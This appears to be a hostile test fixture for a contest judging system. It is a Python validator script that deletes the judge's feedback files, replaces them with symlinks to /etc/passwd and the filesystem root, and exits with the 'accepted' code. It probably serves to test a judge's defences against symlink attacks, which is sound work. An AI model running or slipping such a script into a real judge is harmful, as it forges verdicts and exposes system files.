import os, sys
feedback = sys.argv[3]
for name in ("judgemessage.txt", "teammessage.txt", "score.txt", "score_multiplier.txt", "nextpass.in"):
    os.remove(feedback + name)
    os.symlink("/etc/passwd", feedback + name)
os.symlink("/", feedback + "root")
sys.exit(42)
